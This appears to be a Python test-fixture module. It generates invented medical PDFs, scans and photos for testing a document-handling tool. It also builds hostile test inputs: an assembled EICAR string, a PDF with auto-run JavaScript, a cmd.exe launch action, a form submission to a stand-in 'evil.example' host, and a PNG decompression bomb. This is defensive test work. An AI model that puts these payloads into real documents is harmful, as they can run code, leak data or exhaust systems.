"""Sample documents the tests make themselves: reports as PDFs, scans and photos as images.

Every name, place and value in them is invented.
"""

import io
import struct
import zlib

from fpdf import FPDF
from PIL import ExifTags, Image, ImageCms, ImageDraw, ImageFilter, ImageFont, TiffImagePlugin
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, NumberObject, TextStringObject

# The EICAR test file, put together here so that this source file does not itself carry it.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

PATHOLOGY_REPORT = """\
Harbourside General Hospital - Department of Cellular Pathology
HISTOPATHOLOGY REPORT
Specimen received: 12 March 2026    Reported: 2026-03-19
Specimen: Total gastrectomy with omentum.
Macroscopic: Ulcerated tumour of the antrum, 45 mm in greatest dimension.
Microscopic: Moderately differentiated adenocarcinoma, intestinal type, invading the subserosa.
Lymphovascular invasion present. Margins clear. 2 of 17 lymph nodes involved.
Immunohistochemistry:
HER2 (4B5): score 2+ (equivocal). HER2 ISH: not amplified (HER2/CEP17 ratio 1.4).
PD-L1 (22C3): CPS 8. TPS 5%.
Mismatch repair proteins: MLH1, PMS2, MSH2 and MSH6 retained (pMMR).
CLDN18.2: positive in 80% of tumour cells.
EBER ISH: negative.
Diagnosis: Adenocarcinoma of the stomach, pT3 pN1 cM0, Stage IIB (AJCC 8th edition).
"""

CLINIC_LETTER = """\
Upper GI Oncology Clinic, Harbourside General Hospital
Dear Dr Okafor,
Thank you for referring this patient, whom I saw in clinic on 2 April 2026.
The biopsy showed adenocarcinoma; HER2 negative (score 1+), PD-L1 CPS 12.
Plan: discuss at the MDT and start chemotherapy. Follow-up in clinic in three weeks.
Yours sincerely,
Dr M. Lindqvist, Consultant Medical Oncologist
"""


def text_pdf(text: str, *, compress: bool = True) -> bytes:
    """A PDF with `text` as its text layer, a line of the text to a line of the page."""
    pdf = FPDF()
    pdf.set_compression(compress)
    pdf.add_page()
    pdf.set_font("Helvetica", size=10)
    for line in text.splitlines():
        pdf.cell(0, 6, line, new_x="LMARGIN", new_y="NEXT")
    return bytes(pdf.output())


def pathology_report_pdf() -> bytes:
    return text_pdf(PATHOLOGY_REPORT)


def encrypted_pdf(*, user_password: str, owner_password: str = "") -> bytes:
    """The pathology report, encrypted; with an empty user password any viewer opens it."""
    writer = PdfWriter(clone_from=io.BytesIO(pathology_report_pdf()))
    writer.encrypt(user_password=user_password, owner_password=owner_password or None, algorithm="AES-256")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def scanned_pdf() -> bytes:
    """A PDF whose one page is a scanned picture, with no text layer."""
    pdf = FPDF()
    pdf.add_page()
    pdf.image(scanned_page((620, 877)), x=0, y=0, w=210)
    return bytes(pdf.output())


def pdf_with_attachment(name: str, data: bytes, *, compress: bool) -> bytes:
    """The pathology report with a file attached to it."""
    pdf = FPDF()
    pdf.set_compression(compress)
    pdf.add_page()
    pdf.set_font("Helvetica", size=10)
    pdf.cell(0, 6, "Attached: the laboratory's export.")
    pdf.embed_file(bytes=data, basename=name, compress=compress)
    return bytes(pdf.output())


JS_MARKER = "navis-script-marker"


def _javascript(code: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(f"app.alert('{JS_MARKER} {code}');"),
        }
    )


def _link(rect: list[float], action: DictionaryObject) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject(FloatObject(n) for n in rect),
            NameObject("/A"): action,
        }
    )


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def pdf_with_active_content() -> bytes:
    """The pathology report with every kind of active content a viewer might run or open."""
    writer = PdfWriter(clone_from=io.BytesIO(pathology_report_pdf()))
    root = writer.root_object
    root[NameObject("/OpenAction")] = _javascript("on open")
    root[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): _javascript("on close")})
    root[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("startup"), _javascript("document level")])}
            )
        }
    )
    writer.add_attachment("lab-export.csv", b"patient,value\nsample,1\n")

    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _javascript("on page open")})
    chained = _action("/GoTo", D=ArrayObject([page.indirect_reference, NameObject("/Fit")]))
    chained[NameObject("/Next")] = _javascript("after a safe action")
    field = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/FT"): NameObject("/Tx"),
            NameObject("/T"): TextStringObject("weight"),
            NameObject("/Rect"): ArrayObject(FloatObject(n) for n in (10, 10, 100, 30)),
            NameObject("/AA"): DictionaryObject({NameObject("/K"): _javascript("on keystroke")}),
        }
    )
    field_ref = writer._add_object(field)
    annotations = [
        _link([10, 700, 100, 720], _action("/Launch", F=TextStringObject("cmd.exe"))),
        _link([10, 680, 100, 700], _action("/URI", URI=TextStringObject("javascript:app.alert(1)"))),
        _link([10, 660, 100, 680], _action("/URI", URI=TextStringObject("https://navis.example/guide"))),
        _link([10, 640, 100, 660], chained),
        _link([10, 620, 100, 640], _action("/SubmitForm", F=TextStringObject("https://evil.example/collect"))),
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/FileAttachment"),
                NameObject("/Rect"): ArrayObject(FloatObject(n) for n in (10, 600, 30, 620)),
                NameObject("/FS"): DictionaryObject(
                    {
                        NameObject("/Type"): NameObject("/Filespec"),
                        NameObject("/F"): TextStringObject("notes.txt"),
                    }
                ),
            }
        ),
        field_ref,
    ]
    page[NameObject("/Annots")] = ArrayObject(annotations)
    root[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject([field_ref]),
            NameObject("/XFA"): TextStringObject(f"<xdp:xdp><script>{JS_MARKER}</script></xdp:xdp>"),
            NameObject("/NeedAppearances"): NumberObject(0),
        }
    )
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def scanned_page(size: tuple[int, int] = (1240, 1754)) -> Image.Image:
    """A grey page of typed text with scanner noise and a slight skew."""
    page = Image.new("L", size, 245)
    draw = ImageDraw.Draw(page)
    font = ImageFont.load_default(size=28)
    for number, line in enumerate(CLINIC_LETTER.splitlines()):
        draw.text((90, 120 + number * 48), line, fill=30, font=font)
    noise = Image.effect_noise(size, 18).point(lambda value: value // 8)
    page = Image.blend(page, noise, 0.08).rotate(0.7, fillcolor=245)
    return page.filter(ImageFilter.GaussianBlur(0.6))


def image_bytes(image: Image.Image, image_format: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=image_format, **options)
    return buffer.getvalue()


EXIF_MARKER = "navis-exif-marker"
XMP_MARKER = "navis-xmp-marker"
COMMENT_MARKER = "navis-comment-marker"
XMP = (
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    f'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:description="{XMP_MARKER}"/>'
    "</rdf:RDF></x:xmpmeta>"
).encode()


def camera_exif(orientation: int = 1) -> Image.Exif:
    """EXIF as a phone writes it: camera, time, a description, and where the photo was taken."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Navis Test Camera"
    exif[ExifTags.Base.ImageDescription] = EXIF_MARKER
    exif[ExifTags.Base.DateTime] = "2026:03:12 09:41:00"
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (51.0, 30.0, 26.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "W"
    gps[ExifTags.GPS.GPSLongitude] = (0.0, 7.0, 39.0)
    return exif


def srgb_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def photo() -> Image.Image:
    """A 'photo' of a printed letter: a wider-than-tall colour picture with a red mark top left."""
    picture = scanned_page((640, 480)).convert("RGB")
    ImageDraw.Draw(picture).rectangle((0, 0, 60, 60), fill=(220, 20, 20))
    return picture


def photo_with_metadata(image_format: str, *, orientation: int = 1) -> bytes:
    """A photo carrying EXIF with GPS, XMP, an ICC profile and, where the format has them, comments."""
    picture = photo()
    exif = camera_exif(orientation)
    profile = srgb_profile()
    if image_format == "JPEG":
        return image_bytes(picture, "JPEG", exif=exif, xmp=XMP, icc_profile=profile, comment=COMMENT_MARKER)
    if image_format == "PNG":
        from PIL.PngImagePlugin import PngInfo

        text = PngInfo()
        text.add_text("Comment", COMMENT_MARKER)
        text.add_itxt("XML:com.adobe.xmp", XMP.decode())
        return image_bytes(picture, "PNG", exif=exif, icc_profile=profile, pnginfo=text)
    if image_format == "TIFF":
        # A TIFF keeps these as tags of its own, the GPS ones in a sub-directory.
        tags = TiffImagePlugin.ImageFileDirectory_v2()
        for tag, value in exif.items():
            tags[tag] = value
        tags[ExifTags.IFD.GPSInfo] = dict(exif.get_ifd(ExifTags.IFD.GPSInfo))
        tags[700] = XMP  # XMLPacket
        return image_bytes(picture, "TIFF", icc_profile=profile, tiffinfo=tags)
    if image_format == "HEIF":
        return image_bytes(picture, "HEIF", exif=exif, xmp=XMP, icc_profile=profile, quality=80)
    raise ValueError(image_format)


def multipage_tiff(pages: int) -> bytes:
    first, *others = (scanned_page((620, 877)) for _ in range(pages))
    return image_bytes(first, "TIFF", save_all=True, append_images=others, compression="tiff_adobe_deflate")


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def decompression_bomb_png(width: int, height: int) -> bytes:
    """A valid black-and-white PNG of `width` x `height` pixels that compresses to almost nothing."""
    row = b"\x00" + bytes((width + 7) // 8)  # filter byte, then a row of white-on-black bits
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", data) + _png_chunk(b"IEND", b"")
